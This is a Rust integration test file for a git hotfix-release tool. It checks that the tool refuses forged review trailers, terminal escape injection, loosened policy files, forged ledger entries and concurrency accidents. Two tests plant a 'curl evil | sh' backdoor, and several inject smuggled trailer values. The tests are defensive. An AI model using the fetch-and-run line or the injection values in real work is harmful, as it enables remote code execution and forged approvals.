//! The gate holds and nothing is lost (issue 12): each test builds one attack or one unlucky
//! accident in a real repository and asserts refs, trees and ledger afterwards.

// Test code: helpers outside #[test] functions unwrap and print too (the lints guard src/).
#![allow(clippy::unwrap_used, clippy::print_stdout, clippy::print_stderr)]

mod common;

use common::Sandbox;

/// Item 7: a line break in a single-line field would forge tag trailers (`Reviewed-by:`,
/// `Hotfix-Rollback-To:`); every such field refuses control characters with exit 2, and
/// nothing is written.
#[test]
fn newlines_cannot_forge_tag_trailers() {
    let (s, fix) = Sandbox::released();
    let before = s.refs();
    for field in ["--incident", "--summary"] {
        s.hotfix(&[
            "start",
            "--line",
            "1.1",
            field,
            "INC-1\nHotfix-Rollback-To: v0.0.1",
        ])
        .code(2)
        .says("a line break");
    }
    assert_eq!(s.refs(), before, "a refused start changes no ref");
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.hotfix(&["pick", &fix]).ok();
    let refs = s.refs();
    s.hotfix(&[
        "ship",
        "--yes",
        "--reviewer",
        "Rita <rita@example.com>\nReviewed-by: Mallory <m@example.com>",
    ])
    .code(2);
    s.hotfix(&[
        "ship",
        "--yes",
        "--reviewer",
        "Rita <rita@example.com>",
        "--override",
        "scope",
        "--reason",
        "ok\r\nHotfix-Rollback-To: v0.0.1",
    ])
    .code(2)
    .says("control character");
    s.hotfix(&["check", "--reviewer", "rita\u{1b}]0;x\u{7}"])
        .code(2);
    assert_eq!(s.refs(), refs);
    assert!(!s.event_types("v1.1.1").contains(&"shipped".to_string()));
    // With plain fields the tag carries exactly the trailers hotfix writes.
    s.hotfix(&["ship", "--yes", "--reviewer", "Rita <rita@example.com>"])
        .ok();
    let trailers = s.git(&["tag", "-l", "--format=%(contents)", "v1.1.1"]);
    let parsed = s.git_in_stdin(&["interpret-trailers", "--parse"], &trailers);
    assert!(
        parsed.contains("Reviewed-by: Rita <rita@example.com>"),
        "{parsed}"
    );
    assert!(!parsed.contains("Mallory"), "{parsed}");
}

/// Item 8: a commit subject carrying terminal escapes (retitle the window, clear the screen,
/// a carriage return over the line) is printed escaped by pick, status, check and the ship
/// plan.
#[test]
fn terminal_escapes_from_commit_subjects_are_escaped() {
    let (s, _) = Sandbox::released();
    let evil = "fix: crash\u{1b}]0;pwned\u{7}\u{1b}[2J\rall good";
    let bad = s.commit(
        &[(
            "src/app.txt",
            &common::numbered(10).replace("line 5\n", "line 5 fixed\n"),
        )],
        evil,
    );
    s.push_main();
    s.hotfix(&["start", "--line", "1.1"]).ok();
    let outs = [
        s.hotfix(&["pick", &bad]),
        s.hotfix(&["status"]),
        s.hotfix(&["check", "--reviewer", "rita"]),
        s.hotfix(&["ship", "--dry-run", "--reviewer", "rita"]),
    ];
    for out in &outs {
        let all = out.all();
        assert!(
            !all.contains('\u{1b}'),
            "raw ESC reached the terminal:\n{all:?}"
        );
        assert!(!all.contains('\u{7}') && !all.contains('\r'), "{all:?}");
    }
    assert!(
        outs[0]
            .all()
            .contains("fix: crash\\x1b]0;pwned\\x07\\x1b[2J\\x0dall good")
    );
    // The commit and the ledger keep the subject as it is.
    let events = s.events("v1.1.1");
    let picked = events.iter().find(|e| e["type"] == "picked").unwrap();
    assert_eq!(picked["subject"], evil);
}

/// Item 19: huge durations and dates, on the command line and on mainline, are clear errors
/// (exit 2), never a panic (exit 101).
#[test]
fn huge_durations_and_dates_are_errors_not_panics() {
    let (s, _) = Sandbox::released();
    s.hotfix(&["start", "--line", "1.1", "--detected-at", "99999999w ago"])
        .code(2)
        .says("not a time");
    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/heads/hotfix/1.1.1"]));
    s.hotfix(&[
        "start",
        "--line",
        "1.1",
        "--detected-at",
        "9223372036854775807s ago",
    ])
    .code(2);
    for (key, section) in [("test-timeout", "policy"), ("target", "report")] {
        let bad = s.config_file(
            "huge.toml",
            &format!("[{section}]\n{key} = \"5000000000000d\"\n"),
        );
        s.hotfix(&["--config", &bad, "status"])
            .code(2)
            .says(&format!("bad value for {section}.{key}"));
    }
    s.git(&["switch", "-q", "main"]);
    s.commit(
        &[(
            ".hotfix.toml",
            "[policy]\ntest-timeout = \"5000000000000d\"\n",
        )],
        "huge",
    );
    s.push_main();
    s.hotfix(&["status"])
        .code(2)
        .says(".hotfix.toml on origin/main:2: bad value for policy.test-timeout");
}

/// Item 20: a damaged pick state (short shas) and a committer date with a multi-byte offset
/// are refused with exit 2, and nothing moves.
#[test]
fn damaged_state_files_and_odd_dates_do_not_panic() {
    let (s, fix) = Sandbox::started();
    let state = s.path(".git/hotfix/pick.json");
    std::fs::create_dir_all(state.parent().unwrap()).unwrap();
    std::fs::write(
        &state,
        r#"{"schema":1,"hotfix":"v1.1.1","branch":"refs/heads/hotfix/1.1.1","orig_head":"abc","current_head":"abc","todo":[{"source":"12","mainline":null,"pr":null}],"done":[],"stopped":true,"allow_empty":false}"#,
    )
    .unwrap();
    let refs = s.refs();
    for args in [
        &["status"][..],
        &["pick", "--continue"],
        &["pick", "--abort"],
        &["ship", "--yes"],
    ] {
        s.hotfix(args)
            .code(2)
            .says("the saved pick state is damaged");
    }
    assert_eq!(s.refs(), refs);
    std::fs::remove_file(&state).unwrap();
    s.hotfix_env(
        &["pick", &fix],
        &[("GIT_COMMITTER_DATE", "1700000000 +0é0")],
    )
    .ok();
}

/// Item 1: `--config` cannot loosen mainline's policy for a ship. Every command that writes
/// refs or the ledger refuses it (a dry run may try it), and the `shipped` event records the
/// policy in force: mainline's commit, the file's blob and its SHA-256.
#[test]
fn ship_config_cannot_loosen_mainlines_policy() {
    let (s, fix) = Sandbox::released();
    s.commit(
        &[(
            ".hotfix.toml",
            "[policy]\nmax-lines = 1\nmin-reviewers = 2\n",
        )],
        "strict policy",
    );
    s.push_main();
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.hotfix(&["pick", &fix]).ok();
    s.hotfix(&["check", "--reviewer", "rita"]).code(1);
    let loose = s.config_file(
        "loose.toml",
        "[policy]\nmax-lines = 1000\nmin-reviewers = 1\n",
    );
    let refs = s.refs();
    s.hotfix(&["--config", &loose, "ship", "--yes", "--reviewer", "rita"])
        .code(2)
        .says("`hotfix ship` does not take --config");
    assert_eq!(s.refs(), refs, "nothing tagged, nothing recorded");
    // Trying the file is still possible.
    s.hotfix(&["--config", &loose, "check", "--reviewer", "rita"])
        .ok();
    s.hotfix(&[
        "--config",
        &loose,
        "ship",
        "--dry-run",
        "--reviewer",
        "rita",
    ])
    .ok()
    .says("dry run: nothing changed");
    for args in [
        &["pick", "--abort"][..],
        &["abandon", "v1.1.1", "--reason", "x"],
        &["sync"],
        &["retro", "v1.1.1"],
    ] {
        let mut with = vec!["--config", loose.as_str()];
        with.extend_from_slice(args);
        s.hotfix(&with).code(2).says("does not take --config");
    }
    assert_eq!(s.refs(), refs);
    // Shipped under mainline's policy, with overrides in the open, the event names the policy.
    s.hotfix(&[
        "ship",
        "--yes",
        "--reviewer",
        "rita",
        "--reviewer",
        "bob",
        "--override",
        "max-lines",
        "--reason",
        "two-line fix",
    ])
    .ok();
    let events = s.events("v1.1.1");
    let shipped = events.iter().find(|e| e["type"] == "shipped").unwrap();
    let policy = &shipped["policy"];
    assert_eq!(policy["source"], "mainline");
    assert_eq!(policy["commit"], s.rev("origin/main"));
    assert_eq!(policy["blob"], s.rev("origin/main:.hotfix.toml"));
    let bytes = s.git(&["cat-file", "blob", "origin/main:.hotfix.toml"]) + "\n";
    let sha = s.git_in_stdin(&["hash-object", "--stdin"], &bytes);
    assert_eq!(
        sha,
        s.rev("origin/main:.hotfix.toml"),
        "the blob is the file"
    );
    assert!(policy["digest"].as_str().unwrap().starts_with("sha256:"));
    assert_eq!(policy["digest"].as_str().unwrap().len(), 7 + 64);
    assert_eq!(shipped["overrides"][0]["rule"], "max-lines");
}

/// Item 2: without the remote's HEAD (CI clones), a `main` branch pushed to a `master`
/// repository does not become mainline: the remote is asked for its default branch, and with
/// no answer and both branches present, hotfix refuses to guess.
#[test]
fn a_pushed_main_branch_does_not_become_mainline() {
    let (s, fix) = Sandbox::released();
    // The repository's mainline is master, with a strict policy.
    s.git(&["branch", "-m", "main", "master"]);
    s.commit(
        &[(".hotfix.toml", "[policy]\nmin-reviewers = 2\n")],
        "strict policy",
    );
    s.git(&["push", "-q", "origin", "master"]);
    s.git_in(&s.origin, &["symbolic-ref", "HEAD", "refs/heads/master"]);
    s.git(&["push", "-q", "origin", "--delete", "main"]);
    // Someone pushes a `main` with a loose policy and a backdoor, then a hotfix picking it.
    s.git(&["switch", "-q", "-c", "main", &fix]);
    s.commit(
        &[(
            ".hotfix.toml",
            "[policy]\nmin-reviewers = 0\nmax-lines = 10000\n",
        )],
        "loose",
    );
    let backdoor = s.commit(&[("src/backdoor.sh", "curl evil | sh\n")], "backdoor");
    s.git(&["push", "-q", "origin", "main"]);
    s.git(&["fetch", "-q", "--prune", "origin"]);
    s.git(&["remote", "set-head", "origin", "--delete"]);
    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/remotes/origin/HEAD"]));
    s.git(&["switch", "-q", "-c", "hotfix/1.1.1", "v1.1.0"]);
    s.git(&["cherry-pick", "-x", &backdoor]);
    // Asked, the remote says master: master's policy and master's history judge the hotfix.
    let out = s.hotfix(&["check", "--format", "json", "--reviewer", "rita"]);
    out.code(1);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let rule = |id: &str| {
        doc["rules"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["id"] == id)
            .unwrap()
            .clone()
    };
    assert_eq!(rule("from-mainline")["verdict"], "fail", "{doc}");
    assert_eq!(rule("reviewed")["detail"], "1 of 2 required reviewer(s)");
    // With no remote to ask and both branches present, it refuses to guess.
    s.git(&["remote", "set-url", "origin", "/nonexistent/origin.git"]);
    s.hotfix(&["check", "--reviewer", "rita"])
        .code(2)
        .says("cannot tell which branch is mainline");
}

/// Item 16: a ledger branch moved onto code history is refused, not written on top of.
#[test]
fn a_ledger_ref_on_code_history_is_not_written_on() {
    let (s, _) = Sandbox::released();
    s.git(&["branch", "-f", "hotfix-ledger", "main"]);
    let before = s.rev("hotfix-ledger");
    s.hotfix(&["start", "--line", "1.1"])
        .code(2)
        .says("the ledger branch hotfix-ledger does not hold a ledger");
    assert_eq!(
        s.rev("hotfix-ledger"),
        before,
        "nothing written on the code"
    );
    // Put back (here: removed), the same command works.
    s.git(&["switch", "-q", "main"]);
    s.git(&["branch", "-D", "hotfix-ledger"]);
    s.git(&["branch", "-q", "-D", "hotfix/1.1.1"]);
    s.hotfix(&["start", "--line", "1.1"]).ok();
    let tree = s.git(&["ls-tree", "--name-only", "hotfix-ledger"]);
    assert_eq!(tree, "facts\nrecords");
}

/// Item 18: `ship --push` with a remote it cannot reach stops before the tag and the record.
#[test]
fn ship_push_checks_the_remote_before_any_write() {
    let (s, fix) = Sandbox::started();
    s.hotfix(&["pick", &fix]).ok();
    s.git(&["remote", "set-url", "origin", "/nonexistent/origin.git"]);
    let refs = s.refs();
    s.hotfix(&["ship", "--yes", "--reviewer", "rita", "--push"])
        .code(4)
        .says("nothing was tagged or recorded");
    assert_eq!(s.refs(), refs);
    assert!(!s.event_types("v1.1.1").contains(&"shipped".to_string()));
    s.git(&["remote", "remove", "origin"]);
    s.hotfix(&["ship", "--yes", "--reviewer", "rita", "--push"])
        .code(2)
        .says("no remote named 'origin'");
    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/tags/v1.1.1"]));
}

/// A repository whose mainline fix adds `require_2fa(user)` before `grant()`, released as
/// v1.0.0 before the fix; returns the fix.
fn two_factor_fix() -> (Sandbox, String) {
    let s = Sandbox::empty();
    let auth =
        "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\n    drop(user)\n";
    s.commit(
        &[
            ("src/auth.py", auth),
            ("tests/test_auth.py", "def test_login(): pass\n"),
        ],
        "init",
    );
    s.git(&["tag", "-a", "v1.0.0", "-m", "v1.0.0"]);
    let fixed = auth.replace(
        "    grant(user)\n",
        "    require_2fa(user)\n    grant(user)\n",
    );
    let fix = s.commit(
        &[
            ("src/auth.py", &fixed),
            (
                "tests/test_auth.py",
                "def test_login(): pass\ndef test_2fa(): pass\n",
            ),
        ],
        "fix: require 2fa before granting",
    );
    s.publish();
    s.hotfix(&["start"]).ok();
    (s, fix)
}

fn from_mainline(s: &Sandbox) -> (i32, serde_json::Value) {
    let out = s.hotfix(&["check", "--format", "json", "--reviewer", "rita"]);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let rule = doc["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == "from-mainline")
        .unwrap()
        .clone();
    (
        out.code,
        serde_json::json!({"rule": rule, "commits": doc["commits"]}),
    )
}

/// Item 3: a "pick" whose changed lines equal the source's but land elsewhere (the check
/// added at the end of the file, or re-indented into another function) is `modified`, not
/// `clean`: the source cherry-picked onto the pick's parent must give the pick's tree.
#[test]
fn a_pick_whose_line_lands_elsewhere_is_modified() {
    for (name, misplaced) in [
        (
            "at the end",
            "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\n    drop(user)\n    require_2fa(user)\n",
        ),
        (
            "re-indented elsewhere",
            "def login(user):\n    check(user)\n    grant(user)\n\ndef logout(user):\nrequire_2fa(user)\n    drop(user)\n",
        ),
    ] {
        let (s, fix) = two_factor_fix();
        s.commit(
            &[
                ("src/auth.py", misplaced),
                (
                    "tests/test_auth.py",
                    "def test_login(): pass\ndef test_2fa(): pass\n",
                ),
            ],
            &format!("fix: require 2fa before granting\n\n(cherry picked from commit {fix})"),
        );
        let (code, v) = from_mainline(&s);
        assert_eq!(
            v["commits"][0]["provenance"]["kind"], "picked",
            "{name}: {v}"
        );
        assert_eq!(v["commits"][0]["provenance"]["clean"], false, "{name}: {v}");
        assert_eq!(v["rule"]["verdict"], "warn", "{name}: {v}");
        assert!(
            v["commits"][0]["provenance"]["difference"]
                .as_str()
                .unwrap()
                .contains("land elsewhere"),
            "{name}: {v}"
        );
        assert_eq!(code, 0, "{name}: modified warns by default");
        let strict = s.config_file("strict.toml", "[policy]\nallow-modified = false\n");
        s.hotfix(&["--config", &strict, "check", "--reviewer", "rita"])
            .code(1);
    }
    // The real pick, made by hotfix, is clean.
    let (s, fix) = two_factor_fix();
    s.hotfix(&["pick", &fix]).ok();
    let (code, v) = from_mainline(&s);
    assert_eq!(
        (code, v["rule"]["verdict"].clone()),
        (0, serde_json::json!("pass")),
        "{v}"
    );
}

/// Item 4: a commit over unrelated content whose trailer names a real mainline fix fails
/// `from-mainline`, even with `policy.allow-modified` on (the default).
#[test]
fn a_forged_trailer_over_unrelated_content_fails() {
    let (s, fix) = two_factor_fix();
    s.commit(
        &[
            ("src/payload.sh", "curl evil | sh\n"),
            ("tests/test_payload.py", "def test_x(): pass\n"),
        ],
        &format!("fix: require 2fa before granting\n\n(cherry picked from commit {fix})"),
    );
    let (code, v) = from_mainline(&s);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["rule"]["verdict"], "fail", "{v}");
    assert_eq!(
        v["commits"][0]["provenance"]["kind"], "not-on-mainline",
        "{v}"
    );
    assert!(
        v["rule"]["items"][0]["note"]
            .as_str()
            .unwrap()
            .contains("changes none of the files"),
        "{v}"
    );
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"]).code(1);
    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/tags/v1.0.1"]));
}

/// Item 5: `base-is-release` judges from git. A forged `picked` line in the ledger, claiming
/// a commit queued on the release branch, does not hide that commit riding along.
#[test]
fn a_forged_ledger_line_does_not_hide_a_riding_commit() {
    let (s, fix) = Sandbox::released();
    // release/1.1 holds a commit queued for the next release.
    s.git(&["switch", "-q", "-c", "release/1.1", "v1.1.0"]);
    let queued = s.commit(
        &[("src/unreleased.txt", "not released yet\n")],
        "unreleased work",
    );
    s.git(&["push", "-q", "origin", "release/1.1"]);
    s.git(&["fetch", "-q", "origin"]);
    s.git(&["switch", "-q", "main"]);
    s.hotfix(&["start", "--line", "1.1"]).ok();
    // The branch is moved onto the release branch, and the fix picked on top.
    s.git(&["reset", "-q", "--hard", "release/1.1"]);
    s.git(&["cherry-pick", "-x", &fix]);
    // The forged line: the queued commit "was picked for this hotfix".
    let mut record = s.git(&["show", "hotfix-ledger:records/v1.1.1.jsonl"]);
    record.push_str(&format!(
        "\n{{\"schema\":1,\"type\":\"picked\",\"id\":\"v1.1.1\",\"at\":\"2026-11-22T01:00:00Z\",\"by\":\"M <m@x>\",\"source\":\"{fix}\",\"commit\":\"{queued}\",\"subject\":\"fix\",\"pr\":null,\"clean\":true}}\n"
    ));
    s.put_ledger_file("records/v1.1.1.jsonl", &record, "forged");
    assert!(s.event_types("v1.1.1").iter().any(|t| t == "picked"));
    let out = s.hotfix(&["check", "--reviewer", "rita"]);
    out.code(1).says("queued on the release branch");
    assert!(out.stdout.contains(&queued[..7]), "{}", out.stdout);
    // Shipped for real and fast-forwarded into the release branch, a hotfix proves itself with
    // its own tag: re-checked there, it passes.
    let (s, fix) = Sandbox::released();
    s.git(&["switch", "-q", "-c", "release/1.1", "v1.1.0"]);
    s.git(&["push", "-q", "origin", "release/1.1"]);
    s.git(&["switch", "-q", "main"]);
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.hotfix(&["pick", &fix]).ok();
    s.hotfix(&["ship", "--yes", "--reviewer", "rita", "--push"])
        .ok();
    assert_eq!(s.rev("origin/release/1.1"), s.rev("HEAD"), "fast-forwarded");
    s.hotfix(&["check", "--reviewer", "rita"]).ok();
}

/// Item 13: another clone `git rm`s a record and pushes the ledger; `sync` here does not
/// fast-forward over the loss but merges by union, warns, and puts the record back on origin.
#[test]
fn sync_does_not_fast_forward_over_deleted_records() {
    let (s, _) = Sandbox::released();
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.git(&["switch", "-q", "main"]);
    s.hotfix(&["start", "--line", "1.0"]).ok();
    s.hotfix(&["sync"]).ok();
    let before = s.records_in(&s.work);
    assert_eq!(before.len(), 2);
    let other = s.clone_as("other");
    s.git_in(
        &other,
        &[
            "switch",
            "-q",
            "-c",
            "hotfix-ledger",
            "origin/hotfix-ledger",
        ],
    );
    s.git_in(&other, &["rm", "-q", "records/v1.1.1.jsonl"]);
    s.git_in(&other, &["commit", "-q", "-m", "drop a record"]);
    s.git_in(&other, &["push", "-q", "origin", "hotfix-ledger"]);
    assert_eq!(s.records_in(&s.origin).len(), 1);
    let out = s.hotfix(&["sync"]);
    out.ok().says("removed lines of 1 record(s) (v1.1.1)");
    assert_eq!(s.records_in(&s.work), before, "every record is still here");
    assert_eq!(s.records_in(&s.origin), before, "and back on origin");
    s.assert_index_current(&s.work);
    // The deletion stays in the history, under a merge that undoes its loss.
    let parents = s.git(&["rev-list", "--parents", "-n1", "hotfix-ledger"]);
    assert_eq!(parents.split(' ').count(), 3, "a merge: {parents}");
    // A later sync with nothing lost just fast-forwards or stays.
    s.hotfix(&["sync"]).ok();
    assert!(!s.hotfix(&["sync"]).all().contains("removed lines"));
}

/// Item 14: concurrent ledger writers in one clone wait for each other: 24 `deployed` at once
/// all land, each once, and none is told to remove a lock a live writer holds.
#[test]
fn concurrent_ledger_writers_in_one_clone_all_land() {
    let (s, fix) = Sandbox::released();
    let envs: Vec<String> = (0..24).map(|i| format!("\"env{i}\"")).collect();
    s.commit(
        &[(
            ".hotfix.toml",
            &format!("[deploy]\nenvironments = [{}]\n", envs.join(", ")),
        )],
        "environments",
    );
    s.push_main();
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.hotfix(&["pick", &fix]).ok();
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"]).ok();
    let work = s.work.clone();
    let home = s.home();
    let writers: Vec<_> = (0..24)
        .map(|i| {
            let (work, home) = (work.clone(), home.clone());
            std::thread::spawn(move || {
                common::run_hotfix(
                    &work,
                    &home,
                    &["deployed", "v1.1.1", "--env", &format!("env{i}")],
                    &[],
                )
            })
        })
        .collect();
    for w in writers {
        let out = w.join().unwrap();
        assert_eq!(out.code, 0, "{}", out.all());
        assert!(!out.all().contains("rm '"), "{}", out.all());
    }
    let mut envs: Vec<String> = s
        .events("v1.1.1")
        .iter()
        .filter(|e| e["type"] == "deployed")
        .map(|e| e["env"].as_str().unwrap().to_string())
        .collect();
    envs.sort();
    let mut want: Vec<String> = (0..24).map(|i| format!("env{i}")).collect();
    want.sort();
    assert_eq!(envs, want);
    s.assert_index_current(&s.work);
}

/// Item 14: a lock left behind by a killed process is named, with the command to remove it,
/// only once it is old; a young one is waited for.
#[test]
fn only_an_old_lock_is_called_left_behind() {
    let (s, fix) = Sandbox::started();
    let lock = s.path(".git/refs/heads/hotfix-ledger.lock");
    std::fs::write(&lock, "").unwrap();
    // Young: held by a live writer; after a short wait, the answer says so.
    s.hotfix(&["pick", &fix])
        .code(2)
        .says("locked by a command still running");
    // Old: a minute and more; now the removal is suggested.
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(120);
    std::fs::File::options()
        .write(true)
        .open(&lock)
        .unwrap()
        .set_modified(old)
        .unwrap();
    s.hotfix(&["pick", &fix]).code(2).says("rm '");
    std::fs::remove_file(&lock).unwrap();
    s.hotfix(&["pick", &fix]).ok();
}

/// Item 17: damaged records are named on stderr with their damage (a line that is not JSON,
/// a truncated line, wrong types), the rest is read as before, and `records` as a file is an
/// error rather than an empty ledger.
#[test]
fn damaged_records_are_named_not_skipped_in_silence() {
    let (s, fix) = Sandbox::started();
    s.hotfix(&["pick", &fix]).ok();
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"]).ok();
    s.hotfix(&["sync"]).ok();
    let good = s.git(&["show", "hotfix-ledger:records/v1.1.1.jsonl"]);
    let damaged = format!(
        "{good}\nnot json at all\n{{\"schema\":1,\"type\":\"verified\",\"id\":\"v1.1.1\",\"at\":\"2026-11-22T01:00:00Z\",\"by\":\"x\",\"note\":42}}\n{{\"schema\":1,\"type\":\"deployed\",\"id\":\"v1.1.1\",\"at\":\"2026-11-"
    );
    s.put_ledger_file("records/v1.1.1.jsonl", &damaged, "damage");
    let list = s.hotfix(&["list"]);
    list.ok().says("v1.1.1").says("shipped");
    for (line, what) in [
        (good.lines().count() + 1, "not an event"),
        (good.lines().count() + 2, "wrong type"),
        (good.lines().count() + 3, "not an event"),
    ] {
        assert!(
            list.stderr
                .contains(&format!("records/v1.1.1.jsonl, line {line}: "))
                && list.stderr.contains(what),
            "line {line}: {}",
            list.stderr
        );
    }
    s.hotfix(&["show", "v1.1.1"])
        .ok()
        .says("line ")
        .says("skipped");
    let report = s.hotfix(&["report", "--format", "json"]);
    report.ok().says("records/v1.1.1.jsonl, line");
    let doc: serde_json::Value = serde_json::from_str(&report.stdout).unwrap();
    assert_eq!(doc["tracked"], 1, "the readable events still count");
    // Sync indexes the rest but never the damaged record, so the next report says it again.
    s.hotfix(&["sync"]).ok();
    s.hotfix(&["report"])
        .ok()
        .says("records/v1.1.1.jsonl, line");
    // `records` as a file: an error naming it, and writes refuse it too.
    s.edit_ledger("no records folder", |git| {
        git(&["rm", "-r", "-q", "--cached", "records"]);
    });
    s.put_ledger_file("records", &damaged, "records as a file");
    let tip = s.rev("hotfix-ledger");
    for args in [
        &["list"][..],
        &["report"],
        &["show", "v1.1.1"],
        &["verify", "v1.1.1"],
    ] {
        s.hotfix(args)
            .code(2)
            .says("records/ is a file, not a folder");
    }
    assert_eq!(s.rev("hotfix-ledger"), tip);
}

/// Smaller: `pick` in a shallow clone says the clone is shallow, as `check` does, and changes
/// nothing.
#[test]
fn pick_in_a_shallow_clone_says_so() {
    let (s, fix) = Sandbox::started();
    s.git(&["push", "-q", "origin", "hotfix/1.1.1"]);
    let ci = s.shallow_clone(Some("hotfix/1.1.1"), "ci");
    let head = s.git_in(&ci, &["rev-parse", "HEAD"]);
    common::run_hotfix(&ci, &s.home(), &["pick", &fix], &[])
        .code(2)
        .says("cannot pick in a shallow clone")
        .says("git fetch --unshallow --tags origin");
    assert_eq!(s.git_in(&ci, &["rev-parse", "HEAD"]), head);
}

/// Smaller: an `--output` path that cannot be written (under a regular file) gets the cause
/// and a hint, and nothing else is written.
#[test]
fn output_under_a_regular_file_gets_a_hint() {
    let (s, _) = Sandbox::released();
    let blocker = s.home().join("a-file");
    std::fs::write(&blocker, "x").unwrap();
    let target = blocker.join("report.md");
    s.hotfix(&[
        "report",
        "--format",
        "markdown",
        "--output",
        target.to_str().unwrap(),
    ])
    .code(2)
    .says("cannot write")
    .says("is a file, not a folder");
    // A folder that does not exist yet is made.
    let missing = s.home().join("no/such/dir/report.md");
    s.hotfix(&["report", "--output", missing.to_str().unwrap()])
        .ok()
        .says("wrote");
    assert!(
        std::fs::read_to_string(&missing)
            .unwrap()
            .starts_with("Hotfixes ")
    );
    // A file further up the path is said as such.
    let deeper = blocker.join("x/report.md");
    s.hotfix(&["report", "--output", deeper.to_str().unwrap()])
        .code(2)
        .says("cannot write");
}

/// Item 15: ship is serialised in a clone and accepts an existing tag only if it is the
/// annotated tag this hotfix makes, with the same reviewers and overrides.
#[test]
fn ship_is_serialised_and_trusts_only_its_own_tag() {
    // Two ships at once: one tag, one `shipped` event.
    let (s, fix) = Sandbox::started();
    s.hotfix(&["pick", &fix]).ok();
    let ships: Vec<_> = (0..2)
        .map(|_| {
            let (work, home) = (s.work.clone(), s.home());
            std::thread::spawn(move || {
                common::run_hotfix(&work, &home, &["ship", "--yes", "--reviewer", "rita"], &[])
            })
        })
        .collect();
    let outs: Vec<_> = ships.into_iter().map(|t| t.join().unwrap()).collect();
    assert!(outs.iter().any(|o| o.code == 0), "{}", outs[0].all());
    for o in &outs {
        assert!(
            o.code == 0 || o.all().contains("another `hotfix ship` is running"),
            "{}",
            o.all()
        );
    }
    let shipped = s
        .event_types("v1.1.1")
        .iter()
        .filter(|t| *t == "shipped")
        .count();
    assert_eq!(shipped, 1);

    // Killed between the tag and the record, a re-run with another reviewer is refused: the
    // tag and the ledger would disagree. With the same reviewer it finishes.
    let (s, fix) = Sandbox::started();
    s.hotfix(&["pick", &fix]).ok();
    s.hotfix_env(
        &["ship", "--yes", "--reviewer", "rita"],
        &[("HOTFIX_FAILPOINT", "ship-after-tag")],
    );
    assert!(s.git_ok(&["rev-parse", "-q", "--verify", "refs/tags/v1.1.1"]));
    assert!(!s.event_types("v1.1.1").contains(&"shipped".to_string()));
    s.hotfix(&["ship", "--yes", "--reviewer", "bob"])
        .code(2)
        .says("names the reviewers [rita], and this ship counts [bob]");
    assert!(!s.event_types("v1.1.1").contains(&"shipped".to_string()));
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"]).ok();
    let events = s.events("v1.1.1");
    let shipped = events.iter().find(|e| e["type"] == "shipped").unwrap();
    assert_eq!(shipped["reviewers"][0]["name"], "rita");

    // A hand-made lightweight tag at the head is not "an interrupted ship being finished".
    let (s, fix) = Sandbox::started();
    s.hotfix(&["pick", &fix]).ok();
    s.git(&["tag", "v1.1.1"]);
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"])
        .code(2)
        .says("lightweight tag");
    assert!(!s.event_types("v1.1.1").contains(&"shipped".to_string()));
    // Nor is an annotated one without the hotfix's own trailers.
    s.git(&["tag", "-d", "v1.1.1"]);
    s.git(&["tag", "-a", "v1.1.1", "-m", "v1.1.1\n\nReviewed-by: rita"]);
    s.hotfix(&["ship", "--yes", "--reviewer", "rita"])
        .code(2)
        .says("no `Hotfix-Id: v1.1.1` trailer");
}

/// Item 15: two clones race to ship one version. The loser's push fails, and its `sync` does
/// not put a second `shipped` event on origin, one naming a commit origin's tag does not point
/// at.
#[test]
fn the_loser_of_a_ship_race_does_not_publish_its_record() {
    let (s, fix) = Sandbox::released();
    let home = s.home();
    let other = s.clone_as("other");
    // The loser tags and records first, without pushing.
    common::run_hotfix(&other, &home, &["start", "--line", "1.1"], &[]).ok();
    common::run_hotfix(&other, &home, &["pick", &fix], &[]).ok();
    common::run_hotfix(&other, &home, &["ship", "--yes", "--reviewer", "rita"], &[]).ok();
    // The winner ships and pushes (at another commit: its pick is made at another time).
    s.hotfix(&["start", "--line", "1.1"]).ok();
    s.hotfix_env(
        &["pick", &fix],
        &[("GIT_COMMITTER_DATE", "2026-03-11T09:00:00Z")],
    )
    .ok();
    s.hotfix(&["ship", "--yes", "--reviewer", "rita", "--push"])
        .ok();
    let winner = s.rev("v1.1.1^{commit}");
    let loser = s.git_in(&other, &["rev-parse", "v1.1.1^{commit}"]);
    assert_ne!(winner, loser);
    // The loser cannot push its tag, nor publish its record.
    common::run_hotfix(
        &other,
        &home,
        &["ship", "--yes", "--reviewer", "rita", "--push"],
        &[],
    )
    .code(4);
    common::run_hotfix(&other, &home, &["sync"], &[])
        .code(2)
        .says("another clone shipped it first");
    let on_origin = s.git_in(&s.origin, &["show", "hotfix-ledger:records/v1.1.1.jsonl"]);
    let shipped: Vec<&str> = on_origin
        .lines()
        .filter(|l| l.contains("\"type\":\"shipped\""))
        .collect();
    assert_eq!(shipped.len(), 1, "{on_origin}");
    assert!(shipped[0].contains(&winner), "{}", shipped[0]);
}
